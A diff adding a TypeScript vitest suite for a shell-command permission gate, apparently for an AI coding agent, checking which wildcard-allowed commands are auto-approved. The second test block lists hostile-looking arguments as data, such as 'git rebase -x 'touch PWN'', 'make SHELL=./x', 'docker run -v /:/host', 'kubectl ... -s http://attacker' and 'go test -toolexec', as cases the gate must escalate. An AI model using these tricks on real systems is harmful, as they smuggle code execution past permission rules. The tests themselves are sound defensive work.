@@ -1,0 +1,197 @@
+import { describe, expect, test } from "vitest";
+import { judge, word, words } from "../support/gate.ts";
+
+/** Words as a shell reads them: with quotes where they hold blanks. */
+function split(line: string): readonly string[] {
+  return [...line.matchAll(/'([^']*)'|(\S+)/g)].map(([, quoted, bare]) => quoted ?? bare ?? "");
+}
+
+function under(rule: string, line: string): string {
+  return word(judge("Bash", { allowedTools: [`Bash(${rule})`], subjects: [words(split(line))] }));
+}
+
+/** Without a sandbox, in a stage that may not write. */
+describe("a rule with a * covers the words that people give", () => {
+  test.each<[rule: string, ...lines: readonly string[]]>([
+    ["npm test *", "npm test -- src/a.test.ts -t adds --run", "npm test -s", "npm test --if-present"],
+    ["npm test *", "npm test -- --reporter verbose", "npm test -- --reporter=dot", "npm test -- --timeout 5000"],
+    [
+      "npm test *",
+      "npm test -- --bail=1",
+      "npm test -- --bail 1",
+      "npm test -- --watch=false",
+      "npm test -- -g 'adds two'",
+    ],
+    ["npm run *", "npm run test:unit -- -t adds", "npm run build --silent", "npm run lint -- src"],
+    ["pnpm test *", "pnpm test -t adds"],
+    [
+      "npx vitest *",
+      "npx vitest run --bail=1",
+      "npx vitest run -t adds",
+      "npx vitest run --reporter dot src/a.test.ts",
+    ],
+    ["npx jest *", "npx jest --runInBand -t name", "npx jest -i", "npx jest --coverage=false -t '@smoke a=1'"],
+    ["node_modules/.bin/jest *", "node_modules/.bin/jest -t=adds"],
+    ["mocha *", "mocha --grep @smoke", "mocha -g 'a=1' x.test.js", "mocha --reporter dot"],
+    ["npx playwright test *", "npx playwright test -g @smoke --project=firefox -x"],
+    ["node --test *", "node --test --test-name-pattern=adds --test-reporter=tap a.test.js"],
+    [
+      "pytest *",
+      "pytest --tb=short -q",
+      "pytest --tb short",
+      "pytest -m slow",
+      "pytest --lf -x",
+      "pytest -rA",
+      "pytest -xvs",
+    ],
+    [
+      "pytest *",
+      "pytest 't.py::x[a=1]'",
+      "pytest -k 'a=1 or b'",
+      "pytest -vk name",
+      "pytest -n4 --maxfail 3 --collect-only",
+    ],
+    ["python -m pytest *", "python -m pytest -q tests/a.py"],
+    ["python3 -m unittest *", "python3 -m unittest discover -s tools -p 'test_*.py' -v"],
+    ["uv run pytest *", "uv run pytest -q"],
+    [
+      "go test *",
+      "go test -count=1 -run TestX ./...",
+      "go test -race -v ./...",
+      "go test -run 'TestX/a=1' -timeout 30s .",
+    ],
+    ["cargo test *", "cargo test -- --nocapture", "cargo test --lib -p core", "cargo test -- --test-threads=1 adds"],
+    ["cargo clippy *", "cargo clippy --all-targets -- -D warnings"],
+    ["npx tsc *", "npx tsc --noEmit", "npx tsc --version", "npx tsc --noEmit --pretty false"],
+    ["npx eslint *", "npx eslint --max-warnings=0 .", "npx eslint src --max-warnings 0", "npx eslint -f json src"],
+    ["npx prettier *", "npx prettier --check src"],
+    ["ruff check *", "ruff check --output-format=github --diff ."],
+    ["mypy *", "mypy --strict -p core"],
+    ["make *", "make -k check", "make -j4 check", "make -kj 4 check", "make -j check", "make -sn"],
+    ["./gradlew test *", "./gradlew test --tests a.B --info"],
+    ["mvn test *", "mvn test -q -B"],
+    ["git add *", "git add -A", "git add -- a.txt"],
+    ["git commit *", "git commit -m x", "git commit -am 'a=1'"],
+    ["npx jest *", "npx jest @scope/name -t @smoke"],
+    ["npx *", "npx @scope/tool a", "npx playwright test --grep @smoke"],
+    ["npx -y *", "npx -y @scope/tool@1.0.0"],
+    ["npm install *", "npm install @scope/name @other/name@2"],
+    ["npm view *", "npm view @types/node version"],
+    ["npm test -w *", "npm test -w @scope/name"],
+    ["npm exec *", "npm exec @scope/tool"],
+    ["pnpm --filter * test", "pnpm --filter @scope/name test"],
+    ["yarn workspace *", "yarn workspace @scope/name test"],
+    ["git checkout *", "git checkout @", "git checkout @~1", "git checkout @{u}", "git checkout @me/topic"],
+    ["git commit *", "git commit -m '@me fixed it'"],
+    ["tool *", "tool me@example.com"],
+    ["tool *", "tool a.txt", "tool --verbose --help", "tool -- a", "tool --color=never"],
+  ])("%s: %j", (rule, ...lines) => {
+    expect(lines.filter((line) => under(rule, line) !== "envelope")).toEqual([]);
+  });
+});
+
+describe("a rule with a * covers no word that may run a program or write a file", () => {
+  test.each<[rule: string, ...lines: readonly string[]]>([
+    [
+      "npm test *",
+      "npm test -",
+      "npm test -c",
+      "npm test -o x",
+      "npm test -qo",
+      "npm test --output=x",
+      "npm test --runner",
+    ],
+    ["npm test *", "npm test -- --reporter=./x.mjs", "npm test -- --reporter ./x.mjs", "npm test -- --reporter=dot/x"],
+    [
+      "npm test *",
+      "npm test -- --watch=true",
+      "npm test -- --require=--run",
+      "npm test --workspaces",
+      "npm test --prefix=x",
+    ],
+    ["npm test *", "npm test SHELL=./x", "npm test X!=x", "npm test a.b:=x", "npm test -- -t a=b"],
+    ["npm run *", "npm run build -- -t adds", "npm run build -- --outDir x"],
+    [
+      "npx vitest *",
+      "npx vitest -tc x.mjs",
+      "npx vitest --config=x",
+      "npx vitest -u",
+      "npx vitest --reporter=json --outputFile=x",
+    ],
+    ["npx jest *", "npx jest --rootDir=x", "npx jest -tc x.js", "npx jest --reporters ./x", "npx jest X=1"],
+    ["mocha *", "mocha -r ./x", "mocha --reporter ./x.js", "mocha --reporter=dot,x"],
+    [
+      "pytest *",
+      "pytest -p x",
+      "pytest -xp x",
+      "pytest -c x.ini",
+      "pytest -vc x.ini",
+      "pytest -o addopts=x",
+      "pytest --junitxml=x",
+    ],
+    ["pytest *", "pytest --rootdir x", "pytest --tb ./x", "pytest --pdbcls=a:b", "pytest -W error::x.Y", "pytest A=1"],
+    [
+      "go test *",
+      "go test -exec ./x",
+      "go test -toolexec=./x .",
+      "go test -o x",
+      "go test -coverprofile x",
+      "go test -c",
+      "go test -vet ./x",
+    ],
+    [
+      "cargo test *",
+      "cargo test --config x",
+      "cargo test --target-dir=x",
+      "cargo test -- --logfile x",
+      "cargo test -Zx",
+    ],
+    ["tsc *", "tsc --outDir x", "tsc -p x", "tsc --project x", "tsc -b", "tsc --noemit --OUTFILE x"],
+    [
+      "eslint *",
+      "eslint -f ./x.js",
+      "eslint -c x",
+      "eslint -o x",
+      "eslint --fix",
+      "eslint --rulesdir x",
+      "eslint --plugin x",
+    ],
+    ["prettier *", "prettier -w a.ts", "prettier --write a.ts", "prettier --plugin=./x a.ts"],
+    ["ruff check *", "ruff check --fix", "ruff check -o x", "ruff check --config x"],
+    ["mypy *", "mypy --python-executable ./x", "mypy --junit-xml x", "mypy --html-report x"],
+    [
+      "make *",
+      "make -t check",
+      "make -kt check",
+      "make -f x",
+      "make -jf x",
+      "make SHELL=./x",
+      "make 'x[a!=touch PWN]'",
+      "make --eval=x",
+    ],
+    ["/usr/bin/gmake *", "/usr/bin/gmake -t check"],
+    ["git rebase *", "git rebase -x 'touch PWN' HEAD~1", "git rebase --exec 'touch PWN'", "git rebase -s evil main"],
+    ["git commit *", "git commit -F x", "git commit -S", "git commit --amend"],
+    ["mvn test *", "mvn test -s evil.xml", "mvn test -t x.xml", "mvn test -Dexec=x"],
+    ["dotnet test *", "dotnet test -s evil.runsettings", "dotnet test -t"],
+    ["kubectl get *", "kubectl get pods -s http://attacker"],
+    ["docker run *", "docker run -v /:/host alpine", "docker run -t alpine"],
+    ["gdb *", "gdb -x evil.gdb", "gdb -q"],
+    ["robot *", "robot -x out.xml tests", "robot --run x"],
+    ["ninja *", "ninja -t clean", "ninja -k 0"],
+    ["tool *", "tool -q", "tool -5", "tool --run", "tool --bail", "tool x=1", "tool a[x=1]", "tool --color=./x"],
+    ["* check", "-x check", "a=b check", "@x check"],
+    ["tool *", "tool @x", "tool @", "tool a @src/args.txt", "tool -- @x"],
+    ["npx tsc *", "npx tsc a.ts @x"],
+    ["tsc *", "tsc @x", "tsc --noEmit @x"],
+    ["npx *", "npx tsc @x", "npx @scope/tool @x", "npx javac @x"],
+    ["npm *", "npm run build @x", "npm test @x", "npm exec tsc @x", "npm run build workspace @x", "npm @x"],
+    ["npm run *", "npm run build '-w' @x", "npm run exec @x", "npm run add @x"],
+    ["yarn *", "yarn build @x", "yarn workspace a build @x"],
+    ["pytest *", "pytest @x", "pytest -k @x", "pytest tests -- @x"],
+    ["npx vitest --reporter *", "npx vitest --reporter ./x.mjs"],
+  ])("%s: %j", (rule, ...lines) => {
+    expect(lines.filter((line) => under(rule, line) !== "ask")).toEqual([]);
+    expect(lines.filter((line) => under(line.replace(/\*/g, "'*'"), line) !== "envelope")).toEqual([]);
+  });
+});
